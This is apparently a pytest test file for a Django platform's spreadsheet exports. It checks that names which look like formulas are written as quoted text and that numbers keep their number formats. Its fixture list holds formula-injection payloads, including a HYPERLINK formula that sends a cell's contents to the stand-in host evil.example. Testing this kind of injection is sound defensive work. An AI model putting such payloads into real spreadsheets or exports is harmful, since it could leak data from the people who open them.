"""Every xlsx and csv the platform writes: names that a spreadsheet would run as formulas
come back as text (issue #13.4), numbers stay numbers with a number format (issue #14.13)."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from lms.members.models import Member
from lms.quotas.models import Warning
from lms.quotas.services import quota_status_refresh
from lms.spreadsheets import csv_row, neutralise, strip_neutralising, xlsx_row
from tests.factories import MemberFactory
from tests.factories.roster import member_row, sheet_upload
from tests.factories.teachers import ClassSessionFactory, TeacherFactory, attend, evaluate

from .helpers import preview, run_import

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+1", "+1+2", "@SUM(1,2)", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "-2+3", "\t=1+1"]


def _xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


def _no_formulas(data: bytes) -> None:
    """No <f> element anywhere in the workbook's sheets: nothing can be evaluated."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def _assert_text_cells(ws, expected: set[str]) -> None:
    found = {c.value: c for row in ws.iter_rows() for c in row if c.value in expected}
    assert set(found) == expected
    for cell in found.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value


def _body(resp) -> bytes:
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


def test_helper_neutralises_text_and_keeps_numbers():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    cells = xlsx_row(ws, ["=1+1", -5, -2.5, "普通文本", None, dt.date(2026, 8, 1)])
    assert cells[1] == -5 and cells[2] == -2.5 and cells[3] == "普通文本" and cells[4] is None
    assert cells[0].data_type == "s" and cells[5].number_format == "yyyy-mm-dd"
    assert csv_row(["=1+1", "\r=1", -5, "-5", 0.852]) == ["'=1+1", "'\r=1", -5, "'-5", 0.852]
    for text in FORMULAS:
        assert strip_neutralising(neutralise(text)) == text
    assert strip_neutralising("'普通") == "'普通"


@pytest.fixture
def formula_members(roles):
    return [
        MemberFactory(branch=roles.tree.branch_a, member_no=f"F{i}", name=name, phone="")
        for i, name in enumerate(FORMULAS)
    ]


def test_roster_xlsx_export_writes_formula_names_as_text(roles, login, formula_members):
    data = _body(login(roles.department_a).get("/roster/export/members.xlsx"))
    _no_formulas(data)
    ws = _xlsx(data).active
    _assert_text_cells(ws, set(FORMULAS))
    joined = [row[6] for row in ws.iter_rows(min_row=2) if row[0].value == "F0"][0]
    assert joined.is_date and joined.number_format == "yyyy-mm-dd"


def test_roster_csv_export_prefixes_formula_names(roles, login, formula_members):
    data = _body(login(roles.department_a).get("/roster/export/members.csv")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    names = {r[0]: r[1] for r in rows[1:]}
    for i, name in enumerate(FORMULAS):
        assert names[f"F{i}"] == "'" + name


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_neutralised_export_imports_back_unchanged(roles, login, formula_members, fmt):
    """The import reads the neutralised cells back as they were (it trims surrounding
    whitespace by design, so the tab-led name is left out)."""
    formula_members[-1].delete()
    client = login(roles.department_a)
    data = _body(client.get(f"/roster/export/members.{fmt}"))
    before = dict(Member.objects.values_list("member_no", "name"))
    job = run_import(roles.department_a, SimpleUploadedFile(f"back.{fmt}", data))
    assert job.updated_count == 0 and job.created_count == 0
    assert dict(Member.objects.values_list("member_no", "name")) == before


def test_import_error_workbook_writes_formula_cells_as_text(roles, login):
    rows = [member_row(1, 姓名="=1+1", 手机号="123"), member_row(2, 姓名="@SUM(1,2)", 入党日期="=NOW()")]
    # A .csv carries the formula-like text as typed (an .xlsx written by openpyxl would hold formulas).
    job = preview(roles.town_a_staff, sheet_upload(rows, name="花名册.csv"))
    assert job.error_rows == 2
    data = _body(login(roles.town_a_staff).get(f"/roster/jobs/{job.pk}/errors.xlsx"))
    _no_formulas(data)
    _assert_text_cells(_xlsx(data).active, {"=1+1", "@SUM(1,2)", "=NOW()"})


def test_coverage_exports_write_names_as_text_and_shares_as_numbers(roles, login):
    year = timezone.localdate().year
    branch = roles.tree.branch_a
    branch.name = '=HYPERLINK("http://evil.example","支部")'
    branch.save()
    for i, name in enumerate(FORMULAS[:4]):
        MemberFactory(branch=branch, member_no=f"F{i}", name=name)
    quota_status_refresh(year=year)
    client = login(roles.department)
    r = client.get(f"/progress/coverage/export.xlsx?year={year}&level=town&id={roles.tree.town_a.pk}")
    assert r.status_code == 200
    _no_formulas(r.content)
    wb = _xlsx(r.content)
    ws = wb["支部汇总"]
    _assert_text_cells(ws, {branch.name})
    share = ws.cell(row=2, column=4)
    assert share.data_type == "n" and share.number_format == "0.0%" and 0 <= share.value <= 1
    trend = wb["月度趋势"].cell(row=2, column=4)
    assert trend.data_type == "n" and trend.number_format == "0.0%"

    r = client.get(f"/progress/coverage/export.xlsx?year={year}&level=branch&id={branch.pk}")
    _no_formulas(r.content)
    ws = _xlsx(r.content)["党员明细"]
    _assert_text_cells(ws, set(FORMULAS[:4]))
    headers = [c.value for c in ws[1]]
    online = ws.cell(row=2, column=headers.index("在线学习学时") + 1)
    inperson = ws.cell(row=2, column=headers.index("集中培训学时") + 1)
    for cell in (online, inperson):
        assert cell.data_type == "n" and cell.number_format == "0.00" and cell.value == 0


def test_warnings_export_writes_titles_as_text(roles, login):
    year = timezone.localdate().year
    Warning.objects.create(
        kind=Warning.Kind.MEMBER_AT_RISK,
        year=year,
        key="t1",
        title="=1+1",
        detail="+1+2",
        member=roles.member_a,
        branch=roles.tree.branch_a,
        town=roles.tree.town_a,
    )
    r = login(roles.department).get(f"/progress/warnings/?year={year}&format=xlsx")
    assert r.status_code == 200
    _no_formulas(r.content)
    ws = _xlsx(r.content).active
    _assert_text_cells(ws, {"=1+1", "+1+2"})
    assert ws.cell(row=2, column=6).is_date


def test_teacher_assessment_export_writes_names_as_text_and_rate_as_number(roles, login):
    tz = timezone.get_current_timezone()
    members = [MemberFactory(branch=roles.tree.branch_a) for _ in range(3)]
    teacher = TeacherFactory(name="@SUM(1,2)", unit="=1+1")
    session = ClassSessionFactory(teacher=teacher, starts_at=dt.datetime(2025, 5, 1, 9, tzinfo=tz))
    attend(session, *members)
    for m in members:
        evaluate(session, m, 4)
    r = login(roles.department).get(reverse("teachers:assessment-xlsx"), {"year": 2025})
    assert r.status_code == 200
    _no_formulas(r.content)
    ws = _xlsx(r.content).active
    _assert_text_cells(ws, {"@SUM(1,2)", "=1+1"})
    headers = [c.value for c in ws[1]]
    rate = ws.cell(row=2, column=headers.index("参评率") + 1)
    assert rate.data_type == "n" and rate.number_format == "0.0%" and rate.value == 1.0
